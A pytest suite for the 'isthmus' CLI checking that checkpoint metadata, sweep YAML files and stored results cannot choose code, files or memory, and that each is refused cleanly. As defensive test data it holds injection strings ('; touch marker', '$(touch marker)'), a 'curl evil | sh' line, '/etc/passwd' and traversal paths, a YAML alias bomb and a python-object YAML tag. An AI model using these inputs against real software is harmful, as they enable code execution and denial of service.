"""Names in other people's files: they choose no code, no other file and no memory, in any command that reads them."""

import json
import os
import shlex
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import torch

import isthmus as im
from isthmus.cli import run_app
from isthmus.errors import FileError, InputError
from isthmus.experiments import read_sweep
from isthmus.models import by_name, parameters_of
from isthmus.storage.files import plain
from isthmus.stored import StoredSetup

MODEL = "mlp:64-5-10"
FEW = "gaussians:N=60,d=64,classes=10"
LONG = "9-" * 1_000_000
PAYLOAD = """
from pathlib import Path
Path({marker!r}).touch()
from torch import nn
def net():
    return nn.Sequential(nn.Linear(64, 5), nn.ReLU(), nn.Linear(5, 10))
"""
MODELS = [
    "os:abort", "os:_exit", "payload:net", "./payload.py:net", "posixpath:join", "builtins:exit", "isthmus.models:mlp",
    "mlp:64-99999999x9-10", "mlp:64-999999999-999999999-10", "meanfield:64-99999999x9-10", "vgg11:999999",
    "vgg11_bn:999999:he", "convnet:999999", "conv5:999999999-999999999", "conv5:9-9-999999999-999999999",
    "lstm:999999x99", "mlp:64-\u0663-10", "mlp:64--5-10", "mlp:mlp:64-5-10", "mlp:0x9-10", "mlp:64-5x99999-10", LONG,
    "mlp:" + LONG, "\x1b[2J\nos:abort", "-q", "", "mlp ", "MLP:64-5-10",
    "mlp:64-9000x5-10", "mlp:64-5-10:dropout=" + "0.1x9999-" * 99 + "0",
]  # fmt: skip
DATA = [
    "payload.npz", "./payload.npz", "/etc/passwd", "../payload.npz", "gaussians:N=999999999,d=999999999",
    "gaussians:N=1,d=9,classes=999999999", "gaussians:N=1000000,d=64,classes=10",
    "gaussians:N=-5", "gaussians:N=\u0663", "gaussians:N=1e9", "ptb:V=-1",
    "digits:digits", "gaussians:" + LONG, LONG, "a\nb", "-q",
]  # fmt: skip
NOT_TEXT = [5, 1.5, True, [], ["os:abort"], {"os": "abort"}, [[[[]]]]]
OBJECTIVES = [
    *({"loss": v} for v in ("os:abort", "abs", LONG, *NOT_TEXT)),
    *({"dtype": v} for v in ("os", "int8", "complex64", *NOT_TEXT)),
    *({"examples": v} for v in (-1, 0.5, "9", 10**12, 10**400, True, None, [])),
    *({"named": v} for v in (False, "os:abort", 0)),
    *({"digest": v} for v in ("0", 5, [])),
    *({"penalty": v} for v in ("Ridge(kappa=1)", 5, [], {}, {"name": "os:abort", "kappa": 1})),
    *({"penalty": {"name": "ridge", "kappa": v}} for v in ("1", None, -1, True, [], 10**400)),
    *({"penalty": {"name": "l1", "kappa": 1, "names": v}} for v in (5, [5], ["os"], "0.weight")),
]
STATS = [
    *({"model": v} for v in (*MODELS, *NOT_TEXT, None)),
    *({"data": v} for v in (*DATA, *NOT_TEXT, None)),
    *({"objective": v} for v in (5, [], "os:abort", {}, None)),
    *({"test": v} for v in ({"examples": -1}, {"examples": 10**9}, {"examples": "os"}, {"examples": 9, "digest": 5})),
    *({"segments": v} for v in (5, "ab", [1], ["a", "b"], {"a": 1})),
]

CHILD = """
import json, resource, sys, time, torch
torch.set_num_threads(1)
from io import StringIO
from contextlib import redirect_stderr, redirect_stdout
from isthmus.cli import run_app
run_app(sys.argv[1:])
print(flush=True)
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
for line in sys.stdin:
    out, err = StringIO(), StringIO()
    begin = time.process_time()
    with redirect_stdout(out), redirect_stderr(err):
        try:
            code = run_app(json.loads(line))
        except BaseException as e:
            code = repr(e)[:200]
    used = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak
    seconds = time.process_time() - begin
    print(json.dumps([code, err.getvalue()[:5000], out.getvalue()[:500], seconds, used]), flush=True)
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """Two checkpoints, a path with its certificate, and code and data that no file may choose."""
    folder = tmp_path_factory.mktemp("stored")
    (folder / "payload.py").write_text(PAYLOAD.format(marker=str(folder / "marker")))
    x, y = np.random.default_rng(0).random((9, 64), np.float32), np.arange(9)
    np.savez(folder / "payload.npz", x_train=x, y_train=y)
    for seed, name in enumerate("ab"):
        torch.manual_seed(seed)
        im.save_params(by_name(MODEL).state_dict(), folder / f"{name}.safetensors", {"model": MODEL, "data": FEW})
    ends = [str(folder / f"{name}.safetensors") for name in "ab"]
    arguments = ["connect", *ends, "--method", "Linear", "--examples", "50", "--out", str(folder / "run")]
    assert run_app([*arguments, "--num-points", "3", "--budget", "0", "-q"]) == 0
    return folder


@pytest.fixture(scope="module")
def child(folder):
    """Ask a process that has run a command already for another: what it did, or nothing where the process is gone."""
    warm = ["profile", folder / "run/path.safetensors", "--out", folder / "warm", "-q", "--num-points", "2"]
    with subprocess.Popen(
        [sys.executable, "-c", CHILD, *warm], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=folder,
        stderr=(folder / "said").open("w"), env={**os.environ, "PYTHONPATH": _source()},
    ) as process:  # fmt: skip
        words, answers = process.stdin, process.stdout
        assert words
        assert answers

        def ask(command):
            words.write(json.dumps([str(a) for a in command]) + "\n")
            words.flush()
            return answers.readline()

        while answers.readline().strip():  # what the first command says ends with an empty line
            pass
        yield ask
        process.kill()


def all_refused(folder, child, commands):
    """Each command ends with 2 and one printable line, quickly, in little memory, and runs nobody's code."""
    for command in commands:
        shown = [str(a)[:200] for a in command]
        answer = child(command)
        assert answer, (shown, (folder / "said").read_text()[-2000:])
        code, err, out, seconds, kilobytes = json.loads(answer)
        assert (code, out) == (2, ""), (shown, code, err, out)
        assert len(err.splitlines()) == 1, (shown, err)
        assert err[:-1].isprintable(), (shown, err)
        assert len(err) < 3000, (shown, len(err))
        assert seconds < 20, (shown, seconds)
        assert kilobytes < 300_000, (shown, kilobytes)
    assert not (folder / "marker").exists()
    assert not (folder / "out").exists()


def _source():
    return str(Path(im.__file__).parents[1])


def checkpoints(folder, kind, said):
    """A file for each metadata that is said, in the place of the first checkpoint."""
    made = folder / kind
    made.mkdir()
    params = im.load_params(folder / "a.safetensors")
    files = []
    for i, metadata in enumerate(said):
        files.append(made / f"{i}.safetensors")
        im.save_params(params, files[-1], {"model": MODEL, "data": FEW} | metadata)
    return files


def test_checkpoints_choose_nothing(folder, child):
    said = [
        *({"model": v} for v in MODELS if v),
        *({"data": v} for v in DATA),
        *({"loss": v} for v in ("os:abort", "abs", LONG)),
        *({"examples": v} for v in ("-1", "99999999999", "1e3", "\u0663", "0.5", LONG, "9999")),
    ]
    commands = []
    for file in checkpoints(folder, "checkpoints", said):
        commands += [["connect", file, file, "--method", "Linear", "--out", folder / "out", "-q"]]
        commands += [["stability", file, "--out", folder / "out", "-q"], ["theory", file, file, "-q"]]
    all_refused(folder, child, commands)


def test_paths_choose_nothing(folder, child):
    (folder / "paths").mkdir()
    known = im.load_connection(folder / "run/path.safetensors")
    commands = []
    for i, changed in enumerate([*STATS, *({"objective": {**known.stats["objective"], **c}} for c in OBJECTIVES)]):
        file = folder / f"paths/{i}.safetensors"
        im.save(replace(known, stats={**known.stats, **changed}), file)
        out = ["--out", folder / "out", "-q"]
        three = [["certify", file, *out, "--verify", folder / "run/certificate.json"], ["certify", file, *out]]
        if "segments" not in changed:  # the labels are nothing to profile
            three.append(["profile", file, *out])
        commands += three if i < 9 else three[i % len(three) :][:1]
    all_refused(folder, child, commands)


def sweep_file(file, **changes):
    entry = {"model": MODEL, "seeds": [0, 1], "steps": 2} | changes.pop("entry", {})
    file.write_text(json.dumps({"name": "s", "networks": [entry], "methods": ["Linear"]} | changes))
    return file


def test_sweep_files_choose_nothing(folder, child):
    (folder / "sweeps").mkdir()
    entries = [
        *({"model": v} for v in (*MODELS, *NOT_TEXT)), *({"data": v} for v in (*DATA, *NOT_TEXT)),
        {"loss": "os:abort"}, {"dtype": "os"}, {"model": "os:abort", "checkpoints": ["a.safetensors", "b.safetensors"]},
    ]  # fmt: skip
    files = [sweep_file(folder / f"sweeps/{i}.yaml", entry=e) for i, e in enumerate(entries)]
    others = [
        {"methods": ["os:abort"]}, {"methods": [{"name": "Linear", "os": "abort"}]}, {"name": "../s"}, {"name": "/s"},
        {"entry": {"seeds": [*range(9999)]}}, {"entry": {"seeds": [*range(99)]}, "seeds": [*range(99)]},
        {"methods": [5]}, {"num_points": 10**9}, {"networks": [5]}, {"networks": 5}, {"pairs": "os:abort"},
    ]  # fmt: skip
    files += [
        sweep_file(folder / f"sweeps/other{i}.yaml", **c) for i, c in enumerate(others) if c.get("networks") != []
    ]
    bomb = "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12))
    merges = "".join(f"m{i}: &m{i} {{<<: [{', '.join([f'*m{i - 1}'] * 9)}]}}\n" for i in range(1, 12))
    for name, text in {
        "bomb": "a0: &a0 [1]\n" + bomb,
        "merges": "m0: &m0 {a: 1}\n" + merges,
        "itself": "name: &a [*a]",
        "deep": "[" * 100_000,
        "object": "name: !!python/object/apply:os.abort []",
        "long number": "name: " + "9" * 10_000,
    }.items():
        files.append(folder / f"sweeps/{name}.yaml")
        files[-1].write_text(text)
    all_refused(folder, child, [["sweep", file, "--runs", folder / "runs", "-q"] for file in files])
    assert not list((folder / "runs").glob("*/*/result.json"))


def test_result_folders_choose_nothing(folder, child):
    good = json.loads((folder / "run/result.json").read_text())
    changes = [{k: v} for k in ("method", "outcome", "seconds") for v in NOT_TEXT]
    changes += [{"objective": v} for v in NOT_TEXT if not isinstance(v, dict)]
    changes += [{k: v} for k in ("model", "data", "command", "seed") for v in ([], {"os": "abort"})]
    changes += [{"objective": {"loss": 5, "examples": "x"}}, {"objective": {"loss": "mse", "penalty": 5}}]
    commands = []
    for i, change in enumerate(changes):
        (folder / f"results/{i}").mkdir(parents=True)
        (folder / f"results/{i}/result.json").write_text(json.dumps(good | change))
        commands.append(["report", folder / f"results/{i}"])
    all_refused(folder, child, commands)


def test_a_tampered_result_of_a_sweep_is_refused(folder, tmp_path, capsys):
    file = sweep_file(tmp_path / "s.yaml", entry={"data": "gaussians:N=20,d=64,classes=10"}, num_points=3, budget=0)
    command = ["sweep", str(file), "--runs", str(tmp_path / "runs"), "-q"]
    assert run_app(command) == 0
    (result,) = (tmp_path / "runs/s").glob("*/result.json")
    document = json.loads(result.read_text())
    for wrong in (5, {}, {"method": 5}, document["result"] | {"method": 5}, document["result"] | {"barriers": [1]}):
        result.write_text(json.dumps(document | {"result": wrong}))
        capsys.readouterr()
        assert run_app(command) == 2
        assert len(capsys.readouterr().err.splitlines()) == 1


def test_the_line_of_the_message_goes_on(folder, monkeypatch, capsys):
    """What the message says to type is typed, and the user's own code runs."""
    monkeypatch.chdir(folder)
    monkeypatch.syspath_prepend(folder)
    odd = folder / "it's a net.py"
    odd.write_text((folder / "payload.py").read_text())
    (file,) = checkpoints(folder, "odd", [{"model": f"{odd}:net", "data": "payload.npz"}])
    run_app(["connect", str(file), str(file), "--method", "Linear", "--out", "odd/run", "-q", "--num-points", "2"])
    line = capsys.readouterr().err.partition("if you trust it: ")[2].strip()
    assert not (folder / "marker").exists()
    assert shlex.split(line)[-4:] == ["--model", f"{odd}:net", "--data", "payload.npz"]
    assert run_app(shlex.split(line)[1:]) == 0
    assert (folder / "marker").exists()
    (folder / "marker").unlink()
    for command in (["profile"], ["certify"], ["certify", "--verify", "odd/run/certificate.json"]):
        capsys.readouterr()
        name, *more = command
        assert run_app([name, "odd/run/path.safetensors", "--out", "odd/again", "-q", *more]) == 2
        assert not (folder / "marker").exists()
        line = capsys.readouterr().err.partition("if you trust it: ")[2].strip()
        assert run_app(shlex.split(line)[1:]) == 0
        (folder / "marker").unlink()


def test_a_sweep_of_ones_own_code_is_confirmed(folder, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(folder)
    entry = {"model": "payload.py:net", "data": "payload.npz", "checkpoints": ["a.safetensors", "b.safetensors"]}
    del (written := json.loads(sweep_file(tmp_path / "s.yaml", num_points=2, budget=0).read_text()))["networks"]
    (tmp_path / "s.yaml").write_text(json.dumps(written | {"networks": [entry]}))
    command = ["sweep", str(tmp_path / "s.yaml"), "--runs", str(tmp_path / "runs"), "-q"]
    assert run_app(command) == 2
    assert not (folder / "marker").exists()
    line = capsys.readouterr().err.partition("if you trust it: ")[2].strip()
    assert run_app([*command, "--model", "payload.py:net"]) == 2
    assert run_app(shlex.split(line)[1:]) == 0
    assert (folder / "marker").exists()
    (folder / "marker").unlink()
    # a --set is typed as well
    typed = ["networks.0.model=payload.py:net", "networks.0.data=payload.npz"]
    assert read_sweep(tmp_path / "s.yaml", typed).networks[0].model == "payload.py:net"
    with pytest.raises(FileError, match="not built in"):
        read_sweep(tmp_path / "s.yaml")


def test_commands_of_strangers_are_not_shown_for_pasting(folder, tmp_path):
    good = json.loads((folder / "run/result.json").read_text())
    (tmp_path / "result.json").write_text(json.dumps(good))
    for command, shown in (
        ("isthmus connect a b --out 'my folder'", True),
        ("isthmus connect a b; touch marker", False),
        ("isthmus connect $(touch marker)", False),
        ("isthmus connect a\ntouch marker", False),
        ("curl evil | sh", False),
        ("isthmus connect 'a", False),
    ):
        (tmp_path / "result.json").write_text(json.dumps(good | {"command": command}))
        assert run_app(["report", str(tmp_path)]) == 0
        page = (tmp_path / "report.html").read_text()
        assert ("No command was recorded" in page) != shown
        assert ("result.json. What this page says from there is not known" in page) == (command != good["command"])


def test_what_was_changed_after_it_was_written_is_said_and_a_proof_is_not_shown(folder, tmp_path, capsys):
    run = tmp_path / "run"
    shutil.copytree(folder / "run", run)
    assert run_app(["report", str(run)]) == 0
    assert "Changed after they were written" not in (run / "report.html").read_text()
    for name, said in (("profile.json", 0), ("certificate.json", 2)):
        held = json.loads((run / name).read_text())
        (run / name).write_text(json.dumps(held | {"dtype": "float16", "num_points": 4}))
        assert run_app(["report", str(run)]) == said
    assert "profile.json. What this page says" in (run / "report.html").read_text()
    assert "certificate.json: was changed or damaged" in capsys.readouterr().err


@pytest.mark.parametrize(
    "spec",
    ["mlp:64-99999999x9-10", "mlp:9-999999999-999999999", "meanfield:64-99999999x9-10", "vgg11:999999"]
    + ["conv5:999999999-999999999", "convnet:999999", "vgg11_bn:99999:he"],
)
def test_sizes_typed_by_the_user_are_bounded_too(spec, tmp_path, capsys):
    with pytest.raises(InputError, match="at most 1,073,741,824 parameters"):
        by_name(spec)
    data = "cifar10" if spec[0] in "cv" else "gaussians:N=9,d=64,classes=10"
    if data == "cifar10":
        return
    assert run_app(["train", "--model", spec, "--data", data, "--out", str(tmp_path / "a"), "-q"]) == 2
    assert len(capsys.readouterr().err.splitlines()) == 1


def test_computed_data_typed_by_the_user_are_bounded_too(tmp_path, capsys):
    for data in ("gaussians:N=999999999,d=999999999", "gaussians:N=9,d=99,classes=999999999"):
        assert run_app(["train", "--data", data, "--out", str(tmp_path / "a"), "-q"]) == 2
        assert "at most 1,073,741,824 numbers" in capsys.readouterr().err
    # more than a file may ask for, which the user repeats
    gate = StoredSetup("a.pt", "isthmus connect a.pt b.pt")
    with pytest.raises(FileError, match=r"--data gaussians:N=1000000,d=100$"):
        gate.data("gaussians:N=1000000,d=100")


def test_an_outline_counts_what_is_built_and_draws_nothing():
    state = torch.get_rng_state()
    for spec in ("mlp:6-5x2-3:nobias", "convnet:4", "vgg11:4:he", "vgg11_bn:4", "conv5:2-3-5:lrn", "meanfield:6-5x2-3"):
        count = parameters_of(spec)
        assert torch.equal(torch.get_rng_state(), state)
        module = by_name(spec)
        assert count == sum(p.numel() for p in module.parameters())
        assert not any(p.is_meta for p in module.parameters())
        torch.set_rng_state(state)
    assert parameters_of("lstm:8x1", outputs=9) == sum(p.numel() for p in by_name("lstm:8x1", outputs=9).parameters())


def test_ends_that_disagree_are_refused(folder, tmp_path, capsys):
    a, b = checkpoints(folder, "disagree", [{}, {"model": f"{MODEL}:dropout=0.25"}])
    command = ["--method", "Linear", "--out", str(tmp_path / "x"), "-q", "--num-points", "2", "--budget", "0"]
    assert run_app(["connect", str(a), str(b), *command]) == 0  # dropout changes nothing outside training
    for i, other in enumerate([{"model": f"{MODEL}:tanh"}, {"data": "gaussians:N=9,d=64,classes=10"}, {"loss": "mse"}]):
        c, d = checkpoints(folder, f"disagree{i}", [{"loss": "cross_entropy"}, other])
        capsys.readouterr()
        assert run_app(["connect", str(c), str(d), *command]) == 2
        err = capsys.readouterr().err
        assert f"say which with --{next(iter(other))}" in err
        assert len(err.splitlines()) == 1


def test_the_gate_takes_what_is_built_in():
    gate = StoredSetup("file")
    assert gate.names(("model", "vgg11:64"), ("data", "gaussians:N=5,d=2")) == ("vgg11:64", "gaussians:N=5,d=2")
    assert gate.loss("mse") == "mse"
    assert gate.dtype("float32") is torch.float32
    assert gate.count("12") == gate.count(12) == 12
    penalty = im.Ridge(0.5, ("w",))
    described = im.Objective(
        torch.nn.Linear(2, 2), data=(torch.eye(2), torch.tensor([0, 1])), penalty=im.L1(2)
    ).describe()
    assert gate.penalty(described["penalty"]) == im.L1(2)
    assert gate.penalty(plain({"name": "ridge", "kappa": 0.5, "names": ["w"]})) == penalty
